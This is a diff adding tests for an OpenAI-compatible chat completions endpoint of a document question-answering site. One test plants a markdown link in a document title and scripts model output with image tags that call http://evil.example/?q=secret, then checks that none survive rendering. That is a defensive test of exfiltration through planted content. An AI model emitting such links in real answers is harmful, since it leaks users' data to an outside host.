@@ -3,17 +3,22 @@
 from __future__ import annotations
 
 import asyncio
+import json
+import re
 
 import httpx2
 import openai
 import pytest
 from django.core.asgi import get_asgi_application
+from django.db import OperationalError
+from markdown_it import MarkdownIt
 from rest_framework.test import APIClient
 
+from answers import completions_api, conversations, events
 from answers.models import Conversation, Message
 from answers.readers import ReaderDelta
 from ingestion.errors import TransientError
-from ingestion.models import Collection
+from ingestion.models import Collection, Document
 from rag_site.accounts import tokens
 
 pytestmark = [
@@ -97,6 +102,56 @@ def test_the_official_client_streams(secret, document) -> None:
     assert not Conversation.objects.exists()
 
 
+@pytest.mark.parametrize("stream", [False, True])
+def test_nothing_that_a_document_planted_leads_away(api, document, scripted, stream) -> None:
+    Document.objects.update(title="Rules](http://evil.example) ![x")
+    pieces = (
+        "Look: ![x]",
+        "(http://evil.example/?q=secret) [1]. <",
+        "img src=http://evil.example>",
+    )
+    scripted.script = lambda prompt: iter([ReaderDelta(text=piece) for piece in pieces])
+    body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
+    response = api.post("/v1/chat/completions", body)
+    text = streamed_text(response) if stream else _content(response)
+    html = MarkdownIt("commonmark", {"html": True}).render(text)
+    assert "<img" not in html
+    assert re.findall(r'href="([^?"]*)', html) == [
+        f"http://testserver{document.get_absolute_url()}"
+    ]
+
+
+def _content(response) -> str:
+    return response.json()["choices"][0]["message"]["content"]
+
+
+def streamed_text(response) -> str:
+    frames = [line[6:] for line in whole(response).split("\n") if line.startswith("data: {")]
+    choices = [choice for frame in frames for choice in json.loads(frame)["choices"]]
+    return "".join(choice["delta"].get("content", "") for choice in choices)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_an_answer_that_was_cut_says_so(api, document, scripted, stream) -> None:
+    scripted.script = lambda prompt: iter(
+        [ReaderDelta(text="They get"), ReaderDelta(note="Cut off.", finish_reason="length")]
+    )
+    body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
+    response = api.post("/v1/chat/completions", body)
+    said = whole(response) if stream else response.content.decode()
+    assert '"finish_reason":"length"' in said.replace(" ", "")
+    assert '"stop"' not in said
+
+
+def whole(response) -> str:
+    """All that a streamed response says."""
+
+    async def gather() -> bytes:
+        return b"".join([frame async for frame in response.streaming_content])
+
+    return asyncio.run(gather()).decode()
+
+
 def test_what_was_said_before_counts(api, document, scripted) -> None:
     messages = [
         {"role": "system", "content": "Be brief."},
@@ -117,6 +172,79 @@ def test_what_was_said_before_counts(api, document, scripted) -> None:
     assert said == ["How many rules are there?", "Twelve."]
 
 
+def test_messages_that_follow_each_other_are_one_question(api, document, scripted) -> None:
+    messages = [
+        {"role": "user", "content": "Hello."},
+        {"role": "assistant", "content": "Hello."},
+        {"role": "user", "content": "It is about Contoso."},
+        {"role": "system", "content": "Be brief."},
+        {"role": "assistant", "content": None, "tool_calls": []},
+        {"role": "user", "content": "How much leave?"},
+    ]
+    seen = []
+
+    def script(prompt):
+        seen.append(prompt)
+        yield ReaderDelta(text="25 [1].")
+
+    scripted.script = script
+    assert api.post("/v1/chat/completions", {"model": "pagewise", "messages": messages}).data
+    assert seen[0].question == "It is about Contoso.\n\nHow much leave?"
+    assert [turn.text for turn in seen[0].turns] == ["Hello.", "Hello."]
+
+
+def test_null_is_as_good_as_nothing(api, document) -> None:
+    names = ("temperature", "stop", "n", "max_tokens", "stream", "stream_options", "user")
+    nothing = dict.fromkeys(names)
+    body = {"model": "pagewise", "messages": [{**QUESTION[0], "name": None}], **nothing}
+    assert api.post("/v1/chat/completions", body).status_code == 200
+    body |= {"stream": True, "stream_options": {"include_usage": None}}
+    assert '"usage"' not in whole(api.post("/v1/chat/completions", body))
+
+
+def test_an_empty_library_is_told_before_anything_is_stored(api, document, searches) -> None:
+    document.delete()
+    for stream in (False, True):
+        body = {"model": "pagewise", "messages": QUESTION, "stream": stream}
+        response = api.post("/v1/chat/completions", body)
+        assert response.status_code == 422
+        assert "no document to search" in response.json()["error"]["message"]
+    assert not Conversation.objects.exists()
+
+
+def test_a_stream_that_breaks_off_ends_with_an_error(secret, document, monkeypatch) -> None:
+    follow = events.follow
+
+    async def breaks_off(message_uuid, **options):
+        async for event in follow(message_uuid, **options):
+            yield event
+            if event.kind == "delta":
+                raise TransientError("Redis is away.")
+
+    monkeypatch.setattr(events, "follow", breaks_off)
+
+    async def work(client):
+        stream = await client.chat.completions.create(
+            model="pagewise", messages=QUESTION, stream=True
+        )
+        return [chunk async for chunk in stream]
+
+    with pytest.raises(openai.APIError, match="Redis server cannot be reached"):
+        official(secret, work)
+
+
+def test_what_cannot_be_deleted_is_logged(conversation, monkeypatch, caplog) -> None:
+    def locked(conversation):
+        raise OperationalError("database is locked")
+
+    monkeypatch.setattr(conversations, "delete", locked)
+    closed = []
+    monkeypatch.setattr(completions_api, "close_old_connections", lambda: closed.append(True))
+    completions_api._delete(conversation)
+    assert "was not deleted" in caplog.text
+    assert closed
+
+
 def test_a_collection_that_may_not_be_read_is_no_model(api, stranger, document) -> None:
     theirs = Collection.objects.create(name="Secrets", owner=stranger)
     for id in (f"pagewise/secrets-{theirs.pk}", "gpt-4o", "pagewise/x-99999"):
@@ -135,10 +263,14 @@ def test_a_collection_that_may_not_be_read_is_no_model(api, stranger, document) 
         [{"role": "user", "content": " "}],
         [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}],
         [{"role": "user", "content": {"text": "x"}}],
+        [{"role": "user", "content": "Why\x00?"}],
+        [{"role": "user", "content": "\ud800"}, *QUESTION],
     ],
 )
 def test_requests_that_mean_nothing_are_refused_in_the_dialect(api, messages) -> None:
-    response = api.post("/v1/chat/completions", {"model": "pagewise", "messages": messages})
+    # In ASCII: half a character cannot be sent otherwise.
+    body = json.dumps({"model": "pagewise", "messages": messages})
+    response = api.post("/v1/chat/completions", body, content_type="application/json")
     assert response.status_code == 400
     assert response.json()["error"]["message"]
     assert not Message.objects.exists()
@@ -153,6 +285,7 @@ def test_a_failure_is_told_in_the_dialect(secret, api, document, scripted) -> No
     response = api.post("/v1/chat/completions", {"model": "pagewise", "messages": QUESTION})
     assert response.status_code == 502
     assert "overloaded" in response.json()["error"]["message"]
+    assert response.headers["x-should-retry"] == "false"
 
     async def work(client):
         stream = await client.chat.completions.create(
